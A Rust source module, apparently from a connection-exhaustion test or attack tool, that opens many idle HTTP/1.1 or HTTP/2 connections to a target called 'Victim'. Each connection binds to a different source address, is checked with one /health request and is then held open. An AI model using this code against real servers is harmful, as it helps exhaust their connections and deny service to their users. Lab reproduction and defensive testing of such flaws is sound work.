//! Connections that ask once and then stay.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::Duration;

use anyhow::{Context, Result, ensure};
use socket2::{Domain, Socket, Type};

use super::frames::{self, frame};
use super::{Victim, source};

/// Time in which each must be answered.
const LIMIT: Duration = Duration::from_secs(10);

/// Opens so many, over HTTP/2 or HTTP/1.1, each from an address among many.
pub fn open_idle(victim: &Victim, count: usize, http2: bool) -> Result<Vec<TcpStream>> {
    (0..count).map(|number| open(victim, number, http2).with_context(|| format!("idle connection {number}"))).collect()
}

fn open(victim: &Victim, number: usize, http2: bool) -> Result<TcpStream> {
    let socket = Socket::new(Domain::IPV4, Type::STREAM, None)?;
    socket.bind(&source(number).into())?;
    socket.connect(&victim.address.into())?;
    let mut stream = TcpStream::from(socket);
    stream.set_read_timeout(Some(LIMIT))?;
    if http2 {
        ask_http2(&mut stream, victim)?
    } else {
        ask_http1(&mut stream)?
    }
    Ok(stream)
}

fn ask_http1(stream: &mut TcpStream) -> Result<()> {
    stream.write_all(b"GET /health HTTP/1.1\r\nHost: media.example\r\n\r\n")?;
    let mut answer = Vec::new();
    // The health report is one object of JSON.
    while !answer.ends_with(b"}") {
        read(stream, &mut answer)?;
    }
    ensure!(answer.starts_with(b"HTTP/1.1 200"), "{}", String::from_utf8_lossy(&answer));
    Ok(())
}

fn ask_http2(stream: &mut TcpStream, victim: &Victim) -> Result<()> {
    let request = frames::request("/health", &victim.token, 1, frames::END_HEADERS | frames::END_STREAM);
    stream.write_all(&[frames::PREFACE, &frame(frames::SETTINGS, 0, 0, &[]), &request].concat())?;
    let mut answer = Vec::new();
    loop {
        while answer.len() < 9 || answer.len() < 9 + length(&answer) {
            read(stream, &mut answer)?;
        }
        let (kind, flags) = (answer[3], answer[4]);
        answer.drain(..9 + length(&answer));
        if kind == frames::SETTINGS && flags & frames::ACK == 0 {
            stream.write_all(&frame(frames::SETTINGS, frames::ACK, 0, &[]))?;
        }
        if matches!(kind, frames::DATA | frames::HEADERS) && flags & frames::END_STREAM != 0 {
            return Ok(());
        }
    }
}

/// Length of the payload of the frame that begins here.
fn length(head: &[u8]) -> usize {
    u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize
}

fn read(stream: &mut TcpStream, into: &mut Vec<u8>) -> Result<()> {
    let mut piece = [0; 4096];
    let read = stream.read(&mut piece)?;
    ensure!(read > 0, "closed before an answer");
    into.extend_from_slice(&piece[..read]);
    Ok(())
}
